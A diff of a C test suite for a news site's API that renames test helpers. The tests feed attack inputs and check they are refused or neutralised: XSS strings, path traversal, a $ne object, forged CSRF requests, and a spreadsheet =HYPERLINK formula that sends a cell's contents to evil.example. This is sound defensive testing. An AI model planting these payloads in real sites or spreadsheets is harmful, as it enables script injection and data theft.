-	problem(ts_multipart_api(api_b, "POST", "/api/v1/news", token(&staff_p), parts, 6), 422,
+	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6),
+	    422,
 	    "image");
 	/* one who may not write leaves no file behind */
-	problem(ts_multipart_api(api_b, "POST", "/api/v1/news", token(&member_p), parts, 6), 403,
+	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&member_p), parts, 6),
+	    403,
 	    NULL);
-	problem(ts_multipart_api(api_b, "POST", "/api/v1/news", NULL, parts, 6), 401, NULL);
+	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", NULL, parts, 6), 401, NULL);
 	files_back_to(files);
 	parts[4].filename = "x.svg";
 	parts[4].type = "image/svg+xml";
-	problem(ts_multipart_api(api_b, "POST", "/api/v1/news", token(&staff_p), parts, 6), 422,
+	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6),
+	    422,
 	    "image");
 	parts[4].data = gif;
 	parts[4].len = sizeof gif - 1;
 	parts[4].filename = "x.gif";
 	parts[4].type = "image/gif";
-	problem(ts_multipart_api(api_b, "POST", "/api/v1/news", token(&staff_p), parts, 6), 422,
+	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6),
+	    422,
 	    "image");
 	parts[4].data = "";
 	parts[4].len = 0;
 	parts[4].filename = "empty.png";
 	parts[4].type = "image/png";
 	files_back_to(files);
-	r = ts_multipart_api(api_b, "POST", "/api/v1/news", token(&staff_p), parts, 6);
+	r = ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6);
 	assert_true(r->status == 422 || r->status == 201);
 	if (r->status == 201) {	/* an empty file is no image: the item has none */
 		j = ts_jbody(r);
-		snprintf(path, sizeof path, "/api/v1/news/%s", jstr(j, "slug"));
+		snprintf(path, sizeof path, "/api/v1/news/%s", tn_jstr(j, "slug"));
 		json_decref(j);
-		r = as(NULL, "GET", path, NULL);
+		r = tn_as(NULL, "GET", path, NULL);
 		j = ts_jbody(r);
 		assert_true(json_is_null(json_object_get(j, "image")));
 		json_decref(j);
@@ -800,7 +716,8 @@ test_image_attacks(void **state)
 	parts[4].data = (const char *)png_head;
 	parts[4].len = sizeof png_head;
 	parts[5].data = alt;
-	problem(ts_multipart_api(api_b, "POST", "/api/v1/news", token(&staff_p), parts, 6), 422,
+	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6),
+	    422,
 	    "image_alt");
 	files_back_to(files);	/* none kept */
 	/* a PNG that is also HTML is served as a PNG, inert */
@@ -813,10 +730,10 @@ test_image_attacks(void **state)
 	parts[4].filename = "x.html";
 	parts[4].type = "text/html";
 	parts[5].data = "NA a picture";
-	r = ts_multipart_api(api_b, "POST", "/api/v1/news", token(&staff_p), parts, 6);
+	r = ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6);
 	STATUS(r, 201);
 	j = ts_jbody(r);
-	snprintf(slug, sizeof slug, "%s", jstr(j, "slug"));
+	snprintf(slug, sizeof slug, "%s", tn_jstr(j, "slug"));
 	json_decref(j);
 	snprintf(path, sizeof path, "/news/%s/image", slug);
 	r = ts_get(visitor, path);
@@ -825,14 +742,14 @@ test_image_attacks(void **state)
 	assert_string_equal(ts_header(r, "X-Content-Type-Options"), "nosniff");
 	assert_non_null(strstr(ts_header(r, "Content-Security-Policy"), "sandbox"));
 	/* a file the form did not send is never the item's */
-	r = as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:I,s:s,s:s,s:b}",
+	r = tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:I,s:s,s:s,s:b}",
 	    "title", "NA Borrowed image", "kind", "news", "visibility", "public", "image_id",
 	    (json_int_t)1, "image_type", "text/html", "image_alt", "NA borrowed", "publish", 1));
 	STATUS(r, 201);
 	j = ts_jbody(r);
-	snprintf(path, sizeof path, "/api/v1/news/%s", jstr(j, "slug"));
+	snprintf(path, sizeof path, "/api/v1/news/%s", tn_jstr(j, "slug"));
 	json_decref(j);
-	r = as(NULL, "GET", path, NULL);
+	r = tn_as(NULL, "GET", path, NULL);
 	STATUS(r, 200);
 	j = ts_jbody(r);
 	assert_true(json_is_null(json_object_get(j, "image")));
@@ -854,7 +771,7 @@ test_site_pages_attacks(void **state)
 	size_t i;
 
 	(void)state;
-	STATUS(as(&staff_p, "PUT", "/api/v1/pages/partners/en", json_pack("{s:s,s:s}", "title",
+	STATUS(tn_as(&staff_p, "PUT", "/api/v1/pages/partners/en", json_pack("{s:s,s:s}", "title",
 	    "NA <script>alert('pt')</script> Partners", "body",
 	    "<script>alert('pb')</script>\n\n[x](javascript:alert(1)) <img src=x onerror=alert(2)>"
 	    "\n\n[ok](https://example.org/partners)")), 200);
@@ -866,23 +783,24 @@ test_site_pages_attacks(void **state)
 	HAS(r, "https://example.org/partners");
 	/* the page's history: staff's only */
 	for (i = 0; i < sizeof nonstaff / sizeof nonstaff[0]; i++) {
-		r = ts_get(web(nonstaff[i]), "/partners");
+		r = ts_get(tn_web(nonstaff[i]), "/partners");
 		STATUS(r, 200);
 		LACKS(r, staff_p.name);
-		r = as(nonstaff[i], "GET", "/api/v1/partners", NULL);
+		r = tn_as(nonstaff[i], "GET", "/api/v1/partners", NULL);
 		STATUS(r, 200);
 		LACKS(r, staff_p.name);
 		LACKS(r, "updated_by");
-		problem(as(nonstaff[i], "GET", "/api/v1/staff/pages/partners/en", NULL), 403, NULL);
-		problem(as(nonstaff[i], "GET", "/api/v1/staff/pages", NULL), 403, NULL);
-		STATUS(ts_get(web(nonstaff[i]), "/staff/pages/partners/en"), 403);
+		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/staff/pages/partners/en", NULL), 403,
+		    NULL);
+		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/staff/pages", NULL), 403, NULL);
+		STATUS(ts_get(tn_web(nonstaff[i]), "/staff/pages/partners/en"), 403);
 	}
 	r = ts_get(visitor, "/partners");
 	LACKS(r, staff_p.name);
-	r = as(NULL, "GET", "/api/v1/partners", NULL);
+	r = tn_as(NULL, "GET", "/api/v1/partners", NULL);
 	LACKS(r, staff_p.name);
-	problem(as(NULL, "GET", "/api/v1/staff/pages/partners/en", NULL), 401, NULL);
-	r = ts_get(web(&staff_p), "/staff/pages/partners/en");
+	tn_problem(tn_as(NULL, "GET", "/api/v1/staff/pages/partners/en", NULL), 401, NULL);
+	r = ts_get(tn_web(&staff_p), "/staff/pages/partners/en");
 	STATUS(r, 200);
 	HAS(r, staff_p.name);
 	LACKS(r, "<script>alert");
@@ -892,42 +810,45 @@ test_site_pages_attacks(void **state)
 	HAS(r, "\"language\":\"en\"");
 	STATUS(ts_get(de, "/partners?lang=de"), 200);
 	STATUS(ts_get(de, "/partners?lang=../../etc"), 200);
-	problem(as(&staff_p, "PUT", "/api/v1/pages/partners/de", json_pack("{s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/partners/de", json_pack("{s:s,s:s}",
+	    "title",
 	    "NA Partner", "body", "NA body")), 404, NULL);
-	problem(as(&staff_p, "PUT", "/api/v1/pages/partners/EN", json_pack("{s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/partners/EN", json_pack("{s:s,s:s}",
+	    "title",
 	    "NA Partner", "body", "NA body")), 404, NULL);
-	problem(as(&staff_p, "PUT", "/api/v1/pages/admin/en", json_pack("{s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/admin/en", json_pack("{s:s,s:s}", "title",
 	    "NA Partner", "body", "NA body")), 404, NULL);
-	STATUS(ts_get(web(&staff_p), "/staff/pages/partners/de"), 404);
-	STATUS(ts_get(web(&staff_p), "/staff/pages/..%2Fabout/en"), 404);
+	STATUS(ts_get(tn_web(&staff_p), "/staff/pages/partners/de"), 404);
+	STATUS(ts_get(tn_web(&staff_p), "/staff/pages/..%2Fabout/en"), 404);
 	/* only staff; never without the CSRF token; limits */
 	for (i = 0; i < sizeof nonstaff / sizeof nonstaff[0]; i++) {
-		problem(as(nonstaff[i], "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}",
+		tn_problem(tn_as(nonstaff[i], "PUT", "/api/v1/pages/about/en",
+		    json_pack("{s:s,s:s}",
 		    "title", "NA Hijacked", "body", "NA not ours")), 403, NULL);
-		STATUS(ts_form(web(nonstaff[i]), "/staff/pages/about/en", "title", "NA Hijacked",
+		STATUS(ts_form(tn_web(nonstaff[i]), "/staff/pages/about/en", "title", "NA Hijacked",
 		    "body", "NA not ours", (char *)NULL), 403);
 	}
-	problem(as(NULL, "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}", "title",
+	tn_problem(tn_as(NULL, "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}", "title",
 	    "NA Hijacked", "body", "NA not ours")), 401, NULL);
-	STATUS(ts_post(web(&staff_p), "/staff/pages/about/en", "title", "NA No token", "body",
+	STATUS(ts_post(tn_web(&staff_p), "/staff/pages/about/en", "title", "NA No token", "body",
 	    "NA no token", (char *)NULL), 403);
 	{
 		const char *text_h[] = { "Content-Type: text/plain", NULL };
 
-		r = ts_req(web(&staff_p), "POST", "/staff/pages/about/en", text_h,
+		r = ts_req(tn_web(&staff_p), "POST", "/staff/pages/about/en", text_h,
 		    "title=NA Cookie only&body=NA cookie only", 40);
 		assert_true(r->status == 403 || r->status == 415);
 	}
 	/* JSON that is not JSON */
-	r = ts_api(api_b, "PUT", "/api/v1/pages/about/en", token(&staff_p), "{\"title\":");
-	problem(r, 400, NULL);
+	r = ts_api(api_b, "PUT", "/api/v1/pages/about/en", tn_token(&staff_p), "{\"title\":");
+	tn_problem(r, 400, NULL);
 	memset(big, 'a', 60001);
 	big[60001] = '\0';
-	problem(as(&staff_p, "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}", "title",
 	    "NA Big", "body", big)), 422, "body");
 	memset(big, 'a', 201);
 	big[201] = '\0';
-	problem(as(&staff_p, "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}", "title",
 	    big, "body", "NA body")), 422, "title");
 	r = ts_get(visitor, "/about");
 	LACKS(r, "NA Hijacked");
@@ -950,46 +871,50 @@ test_only_staff_write(void **state)
 	size_t i, k;
 
 	(void)state;
-	id = item_made(json_pack("{s:s,s:s,s:s,s:s}", "title", "NA Staff draft ibis", "kind",
+	id = tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s}", "title", "NA Staff draft ibis",
+	    "kind",
 	    "news", "visibility", "public", "slug", "na-staff-draft"), slug, sizeof slug);
 	snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
 	for (i = 0; i < sizeof nonstaff / sizeof nonstaff[0]; i++) {
-		problem(as(nonstaff[i], "PATCH", path, json_pack("{s:s}", "title", "NA Defaced")),
+		tn_problem(tn_as(nonstaff[i], "PATCH", path, json_pack("{s:s}", "title",
+		    "NA Defaced")),
 		    403, NULL);
-		problem(as(nonstaff[i], "DELETE", path, NULL), 403, NULL);
-		problem(as(nonstaff[i], "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
+		tn_problem(tn_as(nonstaff[i], "DELETE", path, NULL), 403, NULL);
+		tn_problem(tn_as(nonstaff[i], "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}",
+		    "title",
 		    "NA Not theirs", "kind", "news", "visibility", "public")), 403, NULL);
 		for (k = 0; actions[k]; k++) {
 			char p[220];
 
 			if (strcmp(actions[k], "delete") != 0) {
 				snprintf(p, sizeof p, "%s/%s", path, actions[k]);
-				problem(as(nonstaff[i], "POST", p, NULL), 403, NULL);
+				tn_problem(tn_as(nonstaff[i], "POST", p, NULL), 403, NULL);
 			}
 			snprintf(p, sizeof p, "/staff/news/%lld/%s", (long long)id, actions[k]);
-			STATUS(ts_form(web(nonstaff[i]), p, (char *)NULL), 403);
+			STATUS(ts_form(tn_web(nonstaff[i]), p, (char *)NULL), 403);
 		}
 		snprintf(path, sizeof path, "/staff/news/%lld", (long long)id);
-		STATUS(ts_form(web(nonstaff[i]), path, "title", "NA Defaced", "kind", "news",
+		STATUS(ts_form(tn_web(nonstaff[i]), path, "title", "NA Defaced", "kind", "news",
 		    "visibility", "public", (char *)NULL), 403);
-		STATUS(ts_get(web(nonstaff[i]), path), 403);
-		STATUS(ts_get(web(nonstaff[i]), "/staff/news.csv"), 403);
-		problem(as(nonstaff[i], "GET", "/api/v1/staff/news", NULL), 403, NULL);
+		STATUS(ts_get(tn_web(nonstaff[i]), path), 403);
+		STATUS(ts_get(tn_web(nonstaff[i]), "/staff/news.csv"), 403);
+		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/staff/news", NULL), 403, NULL);
 		snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
 	}
-	problem(as(NULL, "PATCH", path, json_pack("{s:s}", "title", "NA Defaced")), 401, NULL);
-	problem(as(NULL, "DELETE", path, NULL), 401, NULL);
+	tn_problem(tn_as(NULL, "PATCH", path, json_pack("{s:s}", "title", "NA Defaced")), 401,
+	    NULL);
+	tn_problem(tn_as(NULL, "DELETE", path, NULL), 401, NULL);
 	snprintf(path, sizeof path, "/api/v1/news/%lld/publish", (long long)id);
-	problem(as(NULL, "POST", path, NULL), 401, NULL);
+	tn_problem(tn_as(NULL, "POST", path, NULL), 401, NULL);
 	/* staff's forms without the token */
 	for (k = 0; actions[k]; k++) {
 		snprintf(path, sizeof path, "/staff/news/%lld/%s", (long long)id, actions[k]);
-		STATUS(ts_post(web(&staff_p), path, (char *)NULL), 403);
+		STATUS(ts_post(tn_web(&staff_p), path, (char *)NULL), 403);
 	}
 	snprintf(path, sizeof path, "/staff/news/%lld", (long long)id);
-	STATUS(ts_post(web(&staff_p), path, "title", "NA Defaced", "kind", "news", "visibility",
+	STATUS(ts_post(tn_web(&staff_p), path, "title", "NA Defaced", "kind", "news", "visibility",
 	    "public", (char *)NULL), 403);
-	STATUS(ts_post(web(&staff_p), "/staff/news/new", "title", "NA Forged", "kind", "news",
+	STATUS(ts_post(tn_web(&staff_p), "/staff/news/new", "title", "NA Forged", "kind", "news",
 	    "visibility", "public", "publish", "1", (char *)NULL), 403);
 	/* what another site's page can make a staff member's browser send to
 	 * the API with their cookie (a form: urlencoded, multipart or
@@ -999,29 +924,29 @@ test_only_staff_write(void **state)
 		const char *form_h[] = { "Content-Type: application/x-www-form-urlencoded", NULL };
 		const char *text_h[] = { "Content-Type: text/plain", NULL };
 
-		r = ts_req(web(&staff_p), "POST", path, form_h, "", 0);
+		r = ts_req(tn_web(&staff_p), "POST", path, form_h, "", 0);
 		STATUS(r, 403);
-		r = ts_req(web(&staff_p), "POST", path, form_h, "x=1", 3);
+		r = ts_req(tn_web(&staff_p), "POST", path, form_h, "x=1", 3);
 		STATUS(r, 403);
-		r = ts_req(web(&staff_p), "POST", path, NULL, NULL, 0);
+		r = ts_req(tn_web(&staff_p), "POST", path, NULL, NULL, 0);
 		STATUS(r, 403);
-		r = ts_req(web(&staff_p), "POST", path, text_h, "{\"a\":1}", 7);
+		r = ts_req(tn_web(&staff_p), "POST", path, text_h, "{\"a\":1}", 7);
 		assert_true(r->status == 403 || r->status == 415);
-		r = ts_req(web(&staff_p), "POST", "/api/v1/news", text_h,
+		r = ts_req(tn_web(&staff_p), "POST", "/api/v1/news", text_h,
 		    "{\"title\":\"NA Forged\",\"kind\":\"news\",\"visibility\":\"public\"}", 57);
 		assert_true(r->status == 403 || r->status == 415);
 		snprintf(path, sizeof path, "/staff/news/%lld/delete", (long long)id);
-		r = ts_req(web(&staff_p), "POST", path, text_h, "csrf=x", 6);
+		r = ts_req(tn_web(&staff_p), "POST", path, text_h, "csrf=x", 6);
 		assert_true(r->status == 403 || r->status == 415);
 	}
 	/* nothing changed */
-	r = as(&staff_p, "GET", "/api/v1/news/na-staff-draft", NULL);
+	r = tn_as(&staff_p, "GET", "/api/v1/news/na-staff-draft", NULL);
 	STATUS(r, 200);
 	j = ts_jbody(r);
-	assert_string_equal(jstr(j, "title"), "NA Staff draft ibis");
-	assert_string_equal(jstr(j, "status"), "draft");
+	assert_string_equal(tn_jstr(j, "title"), "NA Staff draft ibis");
+	assert_string_equal(tn_jstr(j, "status"), "draft");
 	json_decref(j);
-	r = as(&staff_p, "GET", "/api/v1/news?per_page=100", NULL);
+	r = tn_as(&staff_p, "GET", "/api/v1/news?per_page=100", NULL);
 	LACKS(r, "NA Forged");
 	LACKS(r, "NA Not theirs");
 }
@@ -1037,43 +962,44 @@ test_methods(void **state)
 	json_t *j;
 
 	(void)state;
-	id = item_made(json_pack("{s:s,s:s,s:s,s:s}", "title", "NA Method heron", "kind", "news",
+	id = tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s}", "title", "NA Method heron",
+	    "kind", "news",
 	    "visibility", "public", "slug", "na-method-heron"), slug, sizeof slug);
 	snprintf(path, sizeof path, "/api/v1/news/%lld/publish", (long long)id);
-	r = as(&staff_p, "GET", path, NULL);
+	r = tn_as(&staff_p, "GET", path, NULL);
 	assert_true(r->status == 404 || r->status == 405);
 	snprintf(path, sizeof path, "/staff/news/%lld/publish", (long long)id);
-	r = ts_get(web(&staff_p), path);
+	r = ts_get(tn_web(&staff_p), path);
 	assert_true(r->status == 404 || r->status == 405);
 	snprintf(path, sizeof path, "/staff/news/%lld/delete", (long long)id);
-	r = ts_get(web(&staff_p), path);
+	r = ts_get(tn_web(&staff_p), path);
 	assert_true(r->status == 404 || r->status == 405);
 	snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
-	r = as(&staff_p, "PUT", path, json_pack("{s:s}", "title", "NA Put"));
+	r = tn_as(&staff_p, "PUT", path, json_pack("{s:s}", "title", "NA Put"));
 	assert_true(r->status == 404 || r->status == 405);
-	r = as(&staff_p, "POST", "/api/v1/news/na-method-heron", json_pack("{s:s}", "title",
+	r = tn_as(&staff_p, "POST", "/api/v1/news/na-method-heron", json_pack("{s:s}", "title",
 	    "NA Post"));
 	assert_true(r->status == 404 || r->status == 405);
-	r = as(&staff_p, "DELETE", "/api/v1/news/na-method-heron", NULL);
+	r = tn_as(&staff_p, "DELETE", "/api/v1/news/na-method-heron", NULL);
 	assert_true(r->status == 404 || r->status == 405);
-	r = ts_req(web(&staff_p), "POST", "/news/na-method-heron", NULL, "", 0);
+	r = ts_req(tn_web(&staff_p), "POST", "/news/na-method-heron", NULL, "", 0);
 	assert_true(r->status == 403 || r->status == 404 || r->status == 405);
-	r = ts_req(web(&staff_p), "POST", "/news.atom", NULL, "", 0);
+	r = ts_req(tn_web(&staff_p), "POST", "/news.atom", NULL, "", 0);
 	assert_true(r->status == 403 || r->status == 404 || r->status == 405);
 	/* a PATCH sets no status, author, id or date */
-	r = as(&staff_p, "PATCH", path, json_pack("{s:s,s:s,s:I,s:I,s:s,s:s}", "status",
+	r = tn_as(&staff_p, "PATCH", path, json_pack("{s:s,s:s,s:I,s:I,s:s,s:s}", "status",
 	    "published", "visibility", "public", "author_id", (json_int_t)member_p.id, "id",
 	    (json_int_t)1, "published_at", "2001-01-01T00:00:00Z", "author", "NA Forged author"));
 	assert_true(r->status == 200 || r->status == 422);
-	r = as(&staff_p, "GET", "/api/v1/news/na-method-heron", NULL);
+	r = tn_as(&staff_p, "GET", "/api/v1/news/na-method-heron", NULL);
 	STATUS(r, 200);
 	j = ts_jbody(r);
-	assert_string_equal(jstr(j, "status"), "draft");
-	assert_string_equal(jstr(j, "author"), staff_p.name);
+	assert_string_equal(tn_jstr(j, "status"), "draft");
+	assert_string_equal(tn_jstr(j, "author"), staff_p.name);
 	assert_int_equal(json_integer_value(json_object_get(j, "id")), id);
 	assert_true(json_is_null(json_object_get(j, "published_at")));
 	json_decref(j);
-	problem(as(NULL, "GET", "/api/v1/news/na-method-heron", NULL), 404, NULL);
+	tn_problem(tn_as(NULL, "GET", "/api/v1/news/na-method-heron", NULL), 404, NULL);
 }
 
 /* Every size and count has its limit, and a query is checked. */
@@ -1088,29 +1014,29 @@ test_limits(void **state)
 	(void)state;
 	memset(big, 'a', 201);
 	big[201] = '\0';
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title", big,
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title", big,
 	    "kind", "news", "visibility", "public")), 422, "title");
 	memset(big, 'a', 601);
 	big[601] = '\0';
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
 	    "NA Summary", "kind", "news", "visibility", "public", "summary", big)), 422, "summary");
 	memset(big, 'a', 60001);
 	big[60001] = '\0';
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
 	    "NA Body", "kind", "news", "visibility", "public", "body", big)), 422, "body");
 	themes = json_array();
 	for (i = 0; i < 61; i++)	/* a flood, whatever the values */
 		json_array_append_new(themes, json_string("corruption"));
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:o}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:o}", "title",
 	    "NA Themes", "kind", "news", "visibility", "public", "themes", themes)), 422, "themes");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
 	    "NA Kind", "kind", "page", "visibility", "public")), 422, "kind");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
 	    "NA Visibility", "kind", "news", "visibility", "staff")), 422, "visibility");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
 	    "NA Lang", "kind", "news", "visibility", "public", "language",
 	    "en\" onmouseover=\"alert(1)")), 422, "language");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:[s]}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:[s]}", "title",
 	    "NA Theme", "kind", "news", "visibility", "public", "themes", "%")), 422, "themes");
 	/* a body bigger than any request may be */
 	{
@@ -1123,37 +1049,39 @@ test_limits(void **state)
 		memcpy(huge, head, h);
 		memset(huge + h, 'a', n);
 		memcpy(huge + h + n, "\"}", 3);
-		r = ts_api(api_b, "POST", "/api/v1/news", token(&staff_p), huge);
+		r = ts_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), huge);
 		free(huge);
 		assert_true(r->status == 413 || r->status == 422 || r->status == 400);
 	}
-	problem(ts_api(api_b, "POST", "/api/v1/news", token(&staff_p), "[1,2"), 400, NULL);
+	tn_problem(ts_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), "[1,2"), 400, NULL);
 	/* values of the wrong type */
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:i,s:s,s:s}", "title", 12345,
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:i,s:s,s:s}", "title",
+	    12345,
 	    "kind", "news", "visibility", "public")), 422, "title");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:{s:s},s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:{s:s},s:s}", "title",
 	    "NA Object kind", "kind", "$ne", "", "visibility", "public")), 422, "kind");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:[i]}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:[i]}", "title",
 	    "NA Number theme", "kind", "news", "visibility", "public", "themes", 7)), 422,
 	    "themes");
-	problem(ts_api(api_b, "PATCH", "/api/v1/news/1", token(&staff_p), "{\"title\": }"), 400,
+	tn_problem(ts_api(api_b, "PATCH", "/api/v1/news/1", tn_token(&staff_p), "{\"title\": }"),
+	    400,
 	    NULL);
 	/* queries */
-	problem(as(NULL, "GET", "/api/v1/news?per_page=1000", NULL), 422, NULL);
-	problem(as(NULL, "GET", "/api/v1/news?per_page=0", NULL), 422, NULL);
-	problem(as(NULL, "GET", "/api/v1/news?page=0", NULL), 422, NULL);
-	problem(as(NULL, "GET", "/api/v1/news?page=-1", NULL), 422, NULL);
-	r = as(NULL, "GET", "/api/v1/news?page=99999999999999", NULL);
+	tn_problem(tn_as(NULL, "GET", "/api/v1/news?per_page=1000", NULL), 422, NULL);
+	tn_problem(tn_as(NULL, "GET", "/api/v1/news?per_page=0", NULL), 422, NULL);
+	tn_problem(tn_as(NULL, "GET", "/api/v1/news?page=0", NULL), 422, NULL);
+	tn_problem(tn_as(NULL, "GET", "/api/v1/news?page=-1", NULL), 422, NULL);
+	r = tn_as(NULL, "GET", "/api/v1/news?page=99999999999999", NULL);
 	assert_true(r->status == 422 || r->status == 200);
-	problem(as(NULL, "GET", "/api/v1/news?kind=draft", NULL), 422, NULL);
-	problem(as(NULL, "GET", "/api/v1/news?theme=%25", NULL), 422, NULL);
-	problem(as(NULL, "GET", "/api/v1/news?theme=%22%25", NULL), 422, NULL);
-	problem(as(&staff_p, "GET", "/api/v1/staff/news?status=deleted", NULL), 422, NULL);
+	tn_problem(tn_as(NULL, "GET", "/api/v1/news?kind=draft", NULL), 422, NULL);
+	tn_problem(tn_as(NULL, "GET", "/api/v1/news?theme=%25", NULL), 422, NULL);
+	tn_problem(tn_as(NULL, "GET", "/api/v1/news?theme=%22%25", NULL), 422, NULL);
+	tn_problem(tn_as(&staff_p, "GET", "/api/v1/staff/news?status=deleted", NULL), 422, NULL);
 	r = ts_get(visitor, "/news?kind=%3Cscript%3E");
 	STATUS(r, 422);
 	LACKS(r, "<script>");
 	snprintf(path, sizeof path, "/api/v1/news/%s", "na-x%3Cscript%3E");
-	problem(as(NULL, "GET", path, NULL), 404, NULL);
+	tn_problem(tn_as(NULL, "GET", path, NULL), 404, NULL);
 	/* a very long address finds nothing and breaks nothing */
 	{
 		char *p = malloc(6000);
@@ -1167,10 +1095,10 @@ test_limits(void **state)
 		free(p);
 	}
 	/* staff's pages are refused alike whether the item exists or not */
-	STATUS(ts_get(web(&member_p), "/staff/news/1"), 403);
-	STATUS(ts_get(web(&member_p), "/staff/news/999999"), 403);
-	problem(as(&focal_p, "GET", "/api/v1/staff/news/1", NULL), 403, NULL);
-	problem(as(&focal_p, "GET", "/api/v1/staff/news/999999", NULL), 403, NULL);
+	STATUS(ts_get(tn_web(&member_p), "/staff/news/1"), 403);
+	STATUS(ts_get(tn_web(&member_p), "/staff/news/999999"), 403);
+	tn_problem(tn_as(&focal_p, "GET", "/api/v1/staff/news/1", NULL), 403, NULL);
+	tn_problem(tn_as(&focal_p, "GET", "/api/v1/staff/news/999999", NULL), 403, NULL);
 }
 
 /* Staff's CSV neutralizes a title that a spreadsheet would run; a staff
@@ -1179,44 +1107,44 @@ test_limits(void **state)
 static void
 test_csv_and_leaving(void **state)
 {
-	static struct person leaver = { "na.leaver@na-news.test", "Nestor Leaverwright", "staff",
+	static struct tn_person leaver = { "na.leaver@na-news.test", "Nestor Leaverwright", "staff",
 		"", NULL, 0, NULL };
 	char slug[100], path[200];
 	const struct ts_res *r;
 	json_t *j;
 
 	(void)state;
-	(void)item_made(json_pack("{s:s,s:s,s:s,s:s}", "title",
+	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s}", "title",
 	    "=HYPERLINK(\"https://evil.example/?\"&A1,\"NA click\")", "kind", "news",
 	    "visibility", "public", "slug", "na-formula"), NULL, 0);
-	r = ts_get(web(&staff_p), "/staff/news.csv?status=draft");
+	r = ts_get(tn_web(&staff_p), "/staff/news.csv?status=draft");
 	STATUS(r, 200);
 	HAS(r, "\"'=HYPERLINK(");
 	LACKS(r, ",=HYPERLINK(");
 	/* a leaver's byline */
-	r = as(&leaver, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
+	r = tn_as(&leaver, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
 	    "NA Written by one who leaves", "kind", "news", "visibility", "public", "summary",
 	    "NA leaver summary", "publish", 1));
 	STATUS(r, 201);
 	j = ts_jbody(r);
-	snprintf(slug, sizeof slug, "%s", jstr(j, "slug"));
+	snprintf(slug, sizeof slug, "%s", tn_jstr(j, "slug"));
 	json_decref(j);
 	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
-	r = as(NULL, "GET", path, NULL);
+	r = tn_as(NULL, "GET", path, NULL);
 	HAS(r, "Leaverwright");
 	/* the export: one's own items only */
-	r = as(&staff_p, "GET", "/api/v1/me/export", NULL);
+	r = tn_as(&staff_p, "GET", "/api/v1/me/export", NULL);
 	STATUS(r, 200);
